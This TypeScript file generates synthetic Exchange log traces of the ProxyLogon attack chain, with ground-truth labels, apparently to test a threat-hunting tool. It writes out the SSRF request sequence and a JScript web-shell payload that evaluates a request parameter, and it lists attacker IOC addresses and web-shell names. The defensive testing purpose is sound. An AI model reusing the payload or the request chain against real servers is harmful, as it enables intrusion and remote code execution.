/**
 * Planted attack sequences, modelled on the real traces in the reference (§1.10, §4, §5, helsecert corpus,
 * signature-base PR #125 probe row). Each sequence is a list of timed steps; a step writes its lines into the
 * server's logs when the benign timeline reaches its time and records every line in the ground truth.
 *
 * Kinds:
 * - `proxylogon-chain`: the full HAFNIUM chain — SSRF via X-BEResource to autodiscover → mapi/emsmdb →
 *   proxyLogon.ecp (241) → DDI GetObject/SetObject OABVirtualDirectory (ExternalUrl = JScript web shell) →
 *   SetObject ResetOABVirtualDirectory (file written) → cleanup; ECP Server lines with full EventData; the OAB
 *   generator's "Download failed and temporary file" line; front-end and back-end IIS lines; then web-shell use.
 * - `ssrf-probe`: scanner probes `/owa/auth/x.js` with AnchorMailbox `ServerInfo~localhost/ecp/default.flt?`, 500.
 * - `autodiscover-only`: the SSRF's first step only (`ServerInfo~…:444/autodiscover/autodiscover.xml?#`): the
 *   attacker found no mailbox to continue with (Test-ProxyLogon's 2021-03-11 comment).
 * - `webshell-scan`: a scanner requesting known web-shell names under /owa/auth (302) and /aspnet_client (404).
 */
import type { Stage } from '../../hunt/types.js';
import type { LogKind, Req, ReqLines, ServerLogs, Written } from './logs.js';
import type { Rng } from './rng.js';
import { BROWSERS, type Ua, ua } from './world.js';

/** Attacker addresses: the advisory's IOC list (src/advisories/packs/proxylogon-2021-03.yaml `iocs.ips`). */
export const ATTACKER_IPS: readonly string[] = [
  '103.77.192.219',
  '104.140.114.110',
  '104.250.191.110',
  '108.61.246.56',
  '149.28.14.163',
  '157.230.221.198',
  '167.99.168.251',
  '185.250.151.72',
  '192.81.208.169',
  '203.160.69.66',
  '211.56.98.146',
  '5.254.43.18',
  '80.92.205.81',
  '5.2.69.14',
  '91.192.103.43',
];

export type PlantedKind = 'proxylogon-chain' | 'ssrf-probe' | 'autodiscover-only' | 'webshell-scan';

export const PLANTED_KINDS: readonly PlantedKind[] = [
  'proxylogon-chain',
  'ssrf-probe',
  'autodiscover-only',
  'webshell-scan',
];

/**
 * What a hunt should conclude about a host that has only this sequence (names as `HostVerdict` in
 * src/hunt/assess.ts).
 */
export type ExpectedVerdict = 'compromised' | 'exploitation_attempted' | 'probed';

export interface PlantedLine {
  /** Path relative to the output root, `/`-separated. */
  file: string;
  /** 1-based line number in that file. */
  line: number;
  timestamp: string;
  log: LogKind;
  /** The CVE a rule matching this line should name (null: not specific to one CVE, e.g. web-shell use). */
  cve: string | null;
  stage: Stage;
  /** Short description of the line. */
  what: string;
}

export interface PlantedSequence {
  id: string;
  server: string;
  kind: PlantedKind;
  attackerIp: string;
  /** Primary CVE of the sequence. */
  cve: string | null;
  /** Every CVE the sequence's lines give evidence of. */
  cves: string[];
  /** Highest stage reached. */
  stage: Stage;
  verdict: ExpectedVerdict;
  start: string;
  end: string;
  /** Web shell URL path (proxylogon-chain only). */
  webshell?: string;
  lines: PlantedLine[];
}

export interface Step {
  t: number;
  run: () => void;
}

const CVE_SSRF = 'CVE-2021-26855';
const CVE_OAB_WRITE = 'CVE-2021-26858';
const CVE_VDIR_WRITE = 'CVE-2021-27065';

const UA_ESC = ua('ExchangeServicesClient/0.0.0.0');
const UA_PY = [ua('python-requests/2.25.1'), ua('python-requests/2.19.1')];
const UA_ANTSWORD = ua('antSword/v2.1');
const UA_PROBES: readonly Ua[] = [
  ua(
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_13_6) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/69.0.3497.81 Safari/537.36',
  ),
  ua('Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)'),
  ua(
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36',
  ),
];
const UA_SCANNER = ua(
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.182 Safari/537.36',
);

/** Web-shell names seen in March 2021 (MSTIC feed, Volexity, helsecert), by location. */
const SHELLS_ASPNET = [
  'discover',
  'supp0rt',
  'HttpProxy',
  'OutlookEN',
  'shell',
  'errorcheck',
  'iispage',
  'aspnet_www',
  'xx',
  'session',
];
const SHELLS_OWA = [
  'RedirSuiteServerProxy',
  'errorPages',
  'OutlookZH',
  'one1',
  'shel90',
  'logg',
  'bob',
  'authhead',
];
/** Names requested by web-shell scanners (helsecert ip2, trustedsec list). */
const SCAN_OWA = [
  'Current/themes/errorFS.aspx',
  'ErrorAA.aspx',
  'OutlookEN.aspx',
  'zntwv.aspx',
  'Current/scripts/premium/fexppw.aspx',
  'getpp.aspx',
  'Err0r.aspx',
  'Currentthemes/resources/win.ashx',
  'errorEE.aspx',
  'errorEW.aspx',
  'healthcheck1.aspx',
  'shellex.aspx',
];
const SCAN_ASPNET = [
  'xx.aspx',
  'shell.aspx',
  'discover.aspx',
  'HttpProxy.aspx',
  'aspnet_iisstart.aspx',
  'supp0rt.aspx',
  'one.aspx',
];

const URLSAFE = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';

/** Builds the steps of one sequence; `lo..hi` bounds every step's time. */
export class Planter {
  constructor(
    private readonly rng: Rng,
    private readonly logs: ServerLogs,
    private readonly r: Req,
    /** Where scanners (`ssrf-probe`, `webshell-scan`) come from: the IOC list, or unlisted documentation addresses. */
    private readonly scanners: 'ioc' | 'unlisted' = 'ioc',
  ) {}

  plan(kind: PlantedKind, id: string, anchor: number, hi: number): { seq: PlantedSequence; steps: Step[] } {
    const scanner = kind === 'ssrf-probe' || kind === 'webshell-scan';
    const ip =
      scanner && this.scanners === 'unlisted'
        ? `${this.rng.pick(['198.51.100', '203.0.113'])}.${this.rng.range(1, 254)}`
        : this.rng.pick(ATTACKER_IPS);
    const seq: PlantedSequence = {
      id,
      server: this.logs.server.name,
      kind,
      attackerIp: ip,
      cve: kind === 'webshell-scan' ? null : CVE_SSRF,
      cves: [],
      stage: 'probe',
      verdict:
        kind === 'proxylogon-chain'
          ? 'compromised'
          : kind === 'autodiscover-only'
            ? 'exploitation_attempted'
            : 'probed',
      start: '',
      end: '',
      lines: [],
    };
    let steps: Step[];
    if (kind === 'proxylogon-chain') steps = this.chain(seq, anchor, hi);
    else if (kind === 'ssrf-probe') steps = this.probe(seq, anchor);
    else if (kind === 'autodiscover-only') steps = this.autodiscoverOnly(seq, anchor);
    else steps = this.webshellScan(seq, anchor);
    return { seq, steps };
  }

  /** Called after all steps ran: fills start/end/cves/stage from the recorded lines. */
  static finish(seq: PlantedSequence): void {
    seq.lines.sort((a, b) => (a.timestamp < b.timestamp ? -1 : a.timestamp > b.timestamp ? 1 : 0));
    seq.start = seq.lines[0]?.timestamp ?? '';
    seq.end = seq.lines[seq.lines.length - 1]?.timestamp ?? '';
    const order: Stage[] = ['probe', 'exploitation', 'post_exploitation'];
    let stage = 0;
    const cves = new Set<string>();
    for (const l of seq.lines) {
      stage = Math.max(stage, order.indexOf(l.stage));
      if (l.cve) cves.add(l.cve);
    }
    seq.stage = order[stage]!;
    seq.cves = [...cves].sort();
  }

  // ---------------------------------------------------------------------------------------------------------

  private record(
    seq: PlantedSequence,
    w: Written | undefined,
    t: number,
    cve: string | null,
    stage: Stage,
    what: string,
  ): void {
    if (!w) return;
    seq.lines.push({
      file: w.file,
      line: w.line,
      timestamp: this.logs.clock.iso(t),
      log: w.kind,
      cve,
      stage,
      what,
    });
  }

  private recordReq(
    seq: PlantedSequence,
    lines: ReqLines,
    t: number,
    cve: string | null,
    stage: Stage,
    what: string,
  ): void {
    this.record(seq, lines.proxy, t, cve, stage, `HttpProxy: ${what}`);
    this.record(seq, lines.fe, t, cve, stage, `IIS front end: ${what}`);
    this.record(seq, lines.be, t, cve, stage, `IIS back end: ${what}`);
  }

  private host(): string {
    const s = this.logs.server;
    const x = this.rng.int(3);
    return x === 0 ? s.mailHost : x === 1 ? s.autodiscoverHost : s.ip;
  }

  /** One SSRF request through a static decoy path with an X-BEResource cookie aimed at the back end. */
  private ssrf(
    t: number,
    ip: string,
    decoy: { protocol: 'Ecp' | 'Owa'; stem: string },
    host: string,
    prefix: string,
    target: string,
    query: string,
    status: number,
    agent: Ua,
  ): ReqLines {
    const s = this.logs.server;
    const rng = this.rng;
    const r = this.r.reset();
    r.t = t;
    r.total = rng.range(40, 900);
    r.be = r.total - rng.range(2, 30);
    r.reqId = rng.guid();
    r.protocol = decoy.protocol;
    r.host = host;
    r.stem = decoy.stem;
    r.method = 'POST';
    r.authType = 'FBA';
    r.anchor = `ServerInfo~${prefix}@${s.fqdn}:444${target}?${query}#`;
    r.ua = agent;
    r.cip = ip;
    r.status = status;
    r.beStatus = String(status);
    r.routingType = 'CrossRegion';
    r.routingHint = 'X-BEResource-Cookie';
    r.reqBytes = rng.range(200, 1800);
    r.respBytes = rng.range(200, 9000);
    r.infoExtra = `NewConnection=${s.ip}&0;`;
    r.encoding = true;
    r.beStem = target;
    r.beQuery = query;
    r.beUser = `${s.netbios}\\${s.name}$`;
    return this.logs.request(r);
  }

  private chain(seq: PlantedSequence, t0: number, hi: number): Step[] {
    const rng = this.rng;
    const s = this.logs.server;
    const ip = seq.attackerIp;
    const volexity = rng.chance(0.25);
    const decoy = volexity
      ? {
          protocol: 'Owa' as const,
          stem: `/owa/auth/Current/themes/resources/${rng.pick(['logon.css', 'owafont_ja.css', 'lgnbotl.gif', 'owafont_ko.css', 'SegoeUI-SemiBold.eot', 'SegoeUI-SemiLight.ttf'])}`,
        }
      : {
          protocol: 'Ecp' as const,
          stem: `/ecp/${rng.chars('abcdefghijklmnopqrstuvwxyz', rng.range(1, 4))}.js`,
        };
    const prefix = rng.pick(['a]', 'a]', 'b]', 'x]']);
    const host = this.host();
    const py = rng.pick(UA_PY);
    const canary = `${rng.chars(URLSAFE, 76)}.`;
    const vdir = rng.guid();
    const param = `${rng.chars('abcdefghijklmnopqrstuvwxyz', 3)}${rng.range(100000, 999999)}`;
    const aspnet = rng.chance(0.6);
    const name = aspnet ? rng.pick(SHELLS_ASPNET) : rng.pick(SHELLS_OWA);
    const webshell = aspnet ? `/aspnet_client/${name}.aspx` : `/owa/auth/${name}.aspx`;
    const unc = aspnet
      ? `\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\${name}.aspx`
      : `\\\\127.0.0.1\\c$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\${name}.aspx`;
    seq.webshell = webshell;
    const ddi = '/ecp/DDI/DDIService.svc';
    const b = s.build.dotted;
    const ecpLine = (cmd: string, url: string, ex = '') =>
      `S:TIME=${rng.range(20, 900)};S:SID=${rng.guid()};S:CMD=${cmd};S:REQID=;S:URL=${url};S:REFERRER=;S:EX=${ex};S:ACTID=${rng.guid()};S:RS=0;S:BLD=${b};S:TNAME=<null>;S:TID=;S:USID=${rng.guid()};S:EDOID=;S:ACID=`;
    const script = `http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["${param}"],"unsafe");}</script>`;

    let t = t0;
    const next = (lo: number, hi2: number) => {
      t += rng.range(lo, hi2);
      return t;
    };
    const steps: Step[] = [];
    const add = (at: number, run: () => void) => steps.push({ t: at, run });

    const tAuto = t;
    add(tAuto, () =>
      this.recordReq(
        seq,
        this.ssrf(tAuto, ip, decoy, host, prefix, '/autodiscover/autodiscover.xml', '', 200, UA_ESC),
        tAuto,
        CVE_SSRF,
        'exploitation',
        'SSRF to /autodiscover/autodiscover.xml (legacyDN)',
      ),
    );
    const tMapi = next(900, 2500);
    add(tMapi, () =>
      this.recordReq(
        seq,
        this.ssrf(tMapi, ip, decoy, host, prefix, '/mapi/emsmdb/', '', 200, py),
        tMapi,
        CVE_SSRF,
        'exploitation',
        'SSRF to /mapi/emsmdb (SID)',
      ),
    );
    const tLogon = next(1500, 3500);
    add(tLogon, () =>
      this.recordReq(
        seq,
        this.ssrf(tLogon, ip, decoy, host, prefix, '/ecp/proxyLogon.ecp', '', 241, py),
        tLogon,
        CVE_SSRF,
        'exploitation',
        'SSRF to /ecp/proxyLogon.ecp (241, session)',
      ),
    );
    const tGet = next(3000, 6000);
    const qGet = `msExchEcpCanary=${canary}&schema=OABVirtualDirectory`;
    add(tGet, () => {
      this.record(
        seq,
        this.logs.ecpServer(
          tGet - 60,
          ecpLine(
            'Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null',
            `${ddi}/GetObject?${qGet}`,
          ),
        ),
        tGet - 60,
        CVE_SSRF,
        'exploitation',
        'ECP Server: Get-OabVirtualDirectory via the SSRF session',
      );
      this.recordReq(
        seq,
        this.ssrf(tGet, ip, decoy, host, prefix, `${ddi}/GetObject`, qGet, 200, py),
        tGet,
        CVE_SSRF,
        'exploitation',
        'SSRF to DDIService GetObject schema=OABVirtualDirectory',
      );
    });
    const tSet = next(2500, 5000);
    const qSet = `msExchEcpCanary=${canary}&schema=OABVirtualDirectory`;
    add(tSet, () => {
      this.record(
        seq,
        this.logs.ecpServer(
          tSet - 40,
          ecpLine(
            `Set-OabVirtualDirectory.ExternalUrl='${script}'.Identity='${vdir}'`,
            `${ddi}/SetObject?${qSet}`,
          ),
        ),
        tSet - 40,
        CVE_VDIR_WRITE,
        'exploitation',
        'ECP Server: Set-OabVirtualDirectory ExternalUrl with a JScript web shell',
      );
      this.record(
        seq,
        this.logs.ecpServer(
          tSet - 5,
          ecpLine(
            `Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='${vdir}'`,
            `${ddi}/SetObject?${qSet}`,
          ),
        ),
        tSet - 5,
        CVE_VDIR_WRITE,
        'exploitation',
        'ECP Server: Get-OabVirtualDirectory after the change',
      );
      this.recordReq(
        seq,
        this.ssrf(tSet, ip, decoy, host, prefix, `${ddi}/SetObject`, qSet, 200, py),
        tSet,
        CVE_SSRF,
        'exploitation',
        'SSRF to DDIService SetObject schema=OABVirtualDirectory',
      );
    });
    const tReset = next(2000, 4000);
    const qReset = `msExchEcpCanary=${canary}&schema=ResetOABVirtualDirectory`;
    add(tReset, () => {
      this.record(
        seq,
        this.logs.ecpServer(
          tReset - 80,
          ecpLine(`Get-OABVirtualDirectory.Identity='${vdir}'`, `${ddi}/SetObject?${qReset}`),
        ),
        tReset - 80,
        CVE_VDIR_WRITE,
        'exploitation',
        'ECP Server: Get-OABVirtualDirectory (reset)',
      );
      this.record(
        seq,
        this.logs.ecpServer(
          tReset - 30,
          ecpLine(`Get-ExchangeServer.Identity='${s.name}'`, `${ddi}/SetObject?${qReset}`),
        ),
        tReset - 30,
        CVE_VDIR_WRITE,
        'exploitation',
        'ECP Server: Get-ExchangeServer (reset)',
      );
      this.recordReq(
        seq,
        this.ssrf(tReset, ip, decoy, host, prefix, `${ddi}/SetObject`, qReset, 200, py),
        tReset,
        CVE_VDIR_WRITE,
        'exploitation',
        'SSRF to DDIService SetObject schema=ResetOABVirtualDirectory (file written)',
      );
    });
    const tOab = tReset + rng.range(150, 900);
    add(tOab, () =>
      this.record(
        seq,
        this.logs.oab(
          tOab,
          'Error',
          rng.guid(),
          `Download failed and temporary file '${unc}' needs to be removed.`,
        ),
        tOab,
        CVE_OAB_WRITE,
        'exploitation',
        'OAB generator: file written outside ClientAccess\\OAB',
      ),
    );
    const tClean = next(2500, 4500) + 1000;
    add(tClean, () => {
      this.record(
        seq,
        this.logs.ecpServer(
          tClean - 50,
          ecpLine(`Set-OabVirtualDirectory.ExternalUrl=$null.Identity='${vdir}'`, `${ddi}/SetObject?${qSet}`),
        ),
        tClean - 50,
        CVE_VDIR_WRITE,
        'exploitation',
        'ECP Server: Set-OabVirtualDirectory ExternalUrl=$null (cleanup)',
      );
      this.recordReq(
        seq,
        this.ssrf(tClean, ip, decoy, host, prefix, `${ddi}/SetObject`, qSet, 200, py),
        tClean,
        CVE_SSRF,
        'exploitation',
        'SSRF to DDIService SetObject schema=OABVirtualDirectory (cleanup)',
      );
    });

    // Web-shell use: soon after, then a few more times (other days too when the span allows).
    let tw = tClean + rng.range(60_000, 1_200_000);
    const uses = rng.range(3, 7);
    const last = Math.max(tw + 1000, Math.min(hi, t0 + 3 * 86_400_000));
    for (let i = 0; i < uses && tw <= last; i++) {
      const at = tw;
      const post = rng.chance(0.75);
      const agent = post ? UA_ANTSWORD : rng.pick(BROWSERS);
      add(at, () => this.webshellUse(seq, at, webshell, post, agent));
      tw += Math.max(1000, Math.floor(rng.float() * ((last - tw) / 2)));
    }
    return steps;
  }

  private webshellUse(seq: PlantedSequence, t: number, path: string, post: boolean, agent: Ua): void {
    const rng = this.rng;
    const ip = seq.attackerIp;
    const method = post ? 'POST' : 'GET';
    const what = `web shell ${method} ${path} (${agent.raw})`;
    if (path.startsWith('/aspnet_client/')) {
      this.record(
        seq,
        this.logs.iisOnly(1, t, method, path, '', '', ip, agent, '', 200, 0, rng.range(15, 900)),
        t,
        null,
        'post_exploitation',
        `IIS front end: ${what}`,
      );
      return;
    }
    const s = this.logs.server;
    const r = this.r.reset();
    r.t = t;
    r.total = rng.range(15, 900);
    r.reqId = rng.guid();
    r.protocol = 'Owa';
    r.host = rng.chance(0.5) ? s.mailHost : s.ip;
    r.stem = path;
    r.method = method;
    r.authType = 'FBA';
    r.ua = agent;
    r.cip = ip;
    r.status = 200;
    r.proxied = false;
    r.reqBytes = post ? rng.range(300, 5000) : 0;
    r.encoding = true;
    this.recordReq(seq, this.logs.request(r), t, null, 'post_exploitation', what);
  }

  private probe(seq: PlantedSequence, t0: number): Step[] {
    const rng = this.rng;
    const s = this.logs.server;
    const steps: Step[] = [];
    const n = rng.range(1, 3);
    const agent = rng.pick(UA_PROBES);
    let t = t0;
    for (let i = 0; i < n; i++) {
      const at = t;
      const host = i === 0 ? s.ip : this.host();
      const method = rng.chance(0.7) ? 'GET' : 'POST';
      steps.push({
        t: at,
        run: () => {
          const r = this.r.reset();
          r.t = at;
          r.total = rng.range(150, 500);
          r.be = r.total - rng.range(2, 10);
          r.reqId = rng.guid();
          r.protocol = 'Owa';
          r.host = host;
          r.stem = '/owa/auth/x.js';
          r.method = method;
          r.authType = 'FBA';
          r.anchor = 'ServerInfo~localhost/ecp/default.flt?';
          r.ua = agent;
          r.cip = seq.attackerIp;
          r.status = 500;
          r.beStatus = '500';
          r.target = 'localhost';
          r.targetVersion = '0.00.0003.000';
          r.routingType = 'CrossRegion';
          r.routingHint = 'X-AnonResource-Backend-Cookie';
          r.reqBytes = 0;
          r.respBytes = 85;
          r.infoExtra = 'ProxyToDownLevel=True;NewConnection=::1&0;';
          r.encoding = true;
          this.recordReq(
            seq,
            this.logs.request(r),
            at,
            CVE_SSRF,
            'probe',
            `${method} /owa/auth/x.js SSRF probe (localhost, 500)`,
          );
        },
      });
      t += rng.range(200, 5000);
    }
    return steps;
  }

  private autodiscoverOnly(seq: PlantedSequence, t0: number): Step[] {
    const rng = this.rng;
    const steps: Step[] = [];
    const n = rng.range(1, 3);
    const decoy = {
      protocol: 'Ecp' as const,
      stem: `/ecp/${rng.chars('abcdefghijklmnopqrstuvwxyz', rng.range(1, 4))}.js`,
    };
    const prefix = rng.pick(['a]', 'b]', 'x]']);
    let t = t0;
    for (let i = 0; i < n; i++) {
      const at = t;
      const host = this.host();
      const agent = i === 0 ? UA_ESC : rng.pick(UA_PY);
      steps.push({
        t: at,
        run: () =>
          this.recordReq(
            seq,
            this.ssrf(
              at,
              seq.attackerIp,
              decoy,
              host,
              prefix,
              '/autodiscover/autodiscover.xml',
              '',
              200,
              agent,
            ),
            at,
            CVE_SSRF,
            'exploitation',
            'SSRF to /autodiscover/autodiscover.xml only (no mailbox found)',
          ),
      });
      t += rng.range(30_000, 600_000);
    }
    return steps;
  }

  private webshellScan(seq: PlantedSequence, t0: number): Step[] {
    const rng = this.rng;
    const s = this.logs.server;
    const steps: Step[] = [];
    const names = rng.shuffle([...SCAN_OWA]).slice(0, rng.range(4, 8));
    const hosts = [s.ip, s.mailHost, s.autodiscoverHost];
    let t = t0;
    for (const name of names) {
      for (const host of hosts) {
        const at = t;
        steps.push({
          t: at,
          run: () => {
            const r = this.r.reset();
            r.t = at;
            r.total = rng.range(1, 12);
            r.reqId = rng.guid();
            r.protocol = 'Owa';
            r.host = host;
            r.stem = `/owa/auth/${name}`;
            r.authType = 'FBA';
            r.ua = UA_SCANNER;
            r.cip = seq.attackerIp;
            r.proxied = false;
            r.status = 302;
            r.infoExtra = 'NoCookies=302 - GET/E14AuthPost;';
            r.encoding = true;
            this.recordReq(
              seq,
              this.logs.request(r),
              at,
              null,
              'probe',
              `web-shell name scan GET /owa/auth/${name} (302)`,
            );
          },
        });
        t += rng.range(20, 900);
      }
    }
    for (const name of rng.shuffle([...SCAN_ASPNET]).slice(0, rng.range(2, 4))) {
      const at = t;
      steps.push({
        t: at,
        run: () =>
          this.record(
            seq,
            this.logs.iisOnly(
              1,
              at,
              'GET',
              `/aspnet_client/${name}`,
              '',
              '',
              seq.attackerIp,
              UA_SCANNER,
              '',
              404,
              0,
              rng.range(0, 3),
            ),
            at,
            null,
            'probe',
            `IIS front end: web-shell name scan GET /aspnet_client/${name} (404)`,
          ),
      });
      t += rng.range(100, 1500);
    }
    return steps;
  }
}
